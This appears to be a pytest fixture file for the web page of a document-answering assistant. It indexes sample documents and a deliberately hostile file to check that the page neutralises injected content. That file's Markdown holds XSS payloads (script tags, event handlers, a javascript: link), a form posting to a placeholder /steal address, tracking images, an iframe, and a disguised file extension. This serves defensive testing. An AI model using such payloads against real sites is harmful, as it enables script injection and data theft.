"""One small index and one server for all tests of the page."""

from __future__ import annotations

import asyncio
import shutil
import socket
import threading
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import httpx
import pytest

from assistant.answering import Assistant
from assistant.opening import open_assistant
from assistant.settings import Settings

CORPUS = Path(__file__).parents[2] / "evals" / "corpus"
DOCUMENTS = ("CL-26-031-E.pdf", "CL-26-031-C.docx", "CL-26-035-A.docx", "CSAG-26-5-E.pdf", "CSAG-26-5-C.txt")
CHROMIUM = Path("/usr/bin/chromium")
WAIT_S = 90

HOSTILE = f"""# Circular letter XX-99/001 <script>window.hacked = 1</script>

Date: 3 March 2027

## Hostile Sessions Forum (HSF-31) <img src="http://203.0.113.9/a.png" onerror="window.hacked=2">

The Hostile Sessions Forum (HSF-31) will be held in Geneva, Switzerland, on 5-7 October 2031.
The theme of HSF-31 is “<b onclick='window.hacked=3'>Peace</b> ${{window.hacked=4}} {{{{constructor}}}} [click](javascript:window.hacked=5)”.

<form action="http://203.0.113.9/steal"><input name="x" autofocus onfocus="window.hacked=6"></form>

<iframe src="http://203.0.113.9/frame"></iframe><svg onload="window.hacked=7"><style>* {{ display: none }}</style>

![picture](http://203.0.113.9/track.png) \u202egnp.exe\u202c {"W" * 10_000}
"""


@dataclass(frozen=True)
class Server:
    """A running server: its address and the assistant that it serves."""

    url: str
    assistant: Assistant


@pytest.fixture(scope="session")
def index_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An index of five documents of the sample and a hostile one."""
    from index.sync import ingest_paths

    folder = tmp_path_factory.mktemp("page")
    documents = folder / "documents"
    documents.mkdir()
    for name in DOCUMENTS:
        shutil.copy(CORPUS / name, documents / name)
    (documents / "hostile.txt").write_text(HOSTILE, "utf-8")
    summary = ingest_paths([documents], folder / "index", workers=1)
    assert summary.documents == len(DOCUMENTS) + 1, summary.failed
    return folder / "index"


@contextmanager
def running(app: Any) -> Iterator[str]:
    """Serve an application on a free port of this machine; give its address."""
    import uvicorn

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="critical"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    until = time.monotonic() + WAIT_S
    while not server.started:
        assert time.monotonic() < until, "the server did not start"
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    server.force_exit = True
    thread.join(20)


class Slow(Assistant):
    """An assistant whose model takes its time after the first facts."""

    async def astream(self, question: str, *args: Any, **options: Any) -> AsyncIterator[Any]:
        answer = self.ask(question)
        yield replace(answer, final=False)
        await asyncio.sleep(600)
        yield answer


class Streaming(Assistant):
    """An assistant that tells its answer bit by bit, as a model would."""

    async def astream(self, question: str, *args: Any, **options: Any) -> AsyncIterator[Any]:
        answer = self.ask(question)
        for end in range(8, len(answer.text), 8):
            yield replace(answer, text=answer.text[:end], claims=(), notices=(), final=False)
            await asyncio.sleep(0.05)
        yield answer


@pytest.fixture(scope="session")
def served(index_folder: Path) -> Iterator[Server]:
    """The page over that index."""
    from ui.server import application, warm

    with open_assistant(Settings(index=index_folder, model="none")) as assistant:
        warm(assistant)
        with running(application(assistant)) as url:
            yield Server(url, assistant)


@pytest.fixture(scope="session")
def guarded(served: Server) -> Iterator[Server]:
    """The page with accounts, and an assistant that is slow to finish."""
    from ui.accounts import Accounts
    from ui.server import application

    slow = Slow(served.assistant.index, served.assistant.searcher)
    with running(application(slow, Accounts({"wei": "lamp"}))) as url:
        yield Server(url, slow)


@pytest.fixture(scope="session")
def streaming(served: Server) -> Iterator[Server]:
    """The page over an assistant that tells its answers bit by bit."""
    from ui.server import application

    told = Streaming(served.assistant.index, served.assistant.searcher)
    with running(application(told)) as url:
        yield Server(url, told)


@pytest.fixture
def client(served: Server) -> Iterator[httpx.Client]:
    """A client of the server."""
    with httpx.Client(base_url=served.url, timeout=WAIT_S, trust_env=False) as made:
        yield made
